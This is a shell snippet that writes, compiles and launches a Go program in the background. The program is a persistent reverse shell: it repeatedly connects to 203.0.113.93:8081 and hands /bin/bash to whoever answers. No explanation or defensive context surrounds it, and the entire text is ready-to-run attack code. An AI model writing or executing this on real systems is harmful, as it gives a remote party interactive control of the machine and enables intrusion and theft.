mkdir -p /tmp/g; cat > /tmp/g/a.go <<'EOF'
package main

import (
	"net"
	"os/exec"
	"time"
)

func main() {
	for {
		if c, err := net.DialTimeout("tcp", "203.0.113.93:8081", 5*time.Second); err == nil {
			cmd := exec.Command("/bin/bash")
			cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
			cmd.Run()
			c.Close()
		}
		time.Sleep(10 * time.Second)
	}
}
EOF
go build -o /tmp/g/a /tmp/g/a.go && /tmp/g/a &
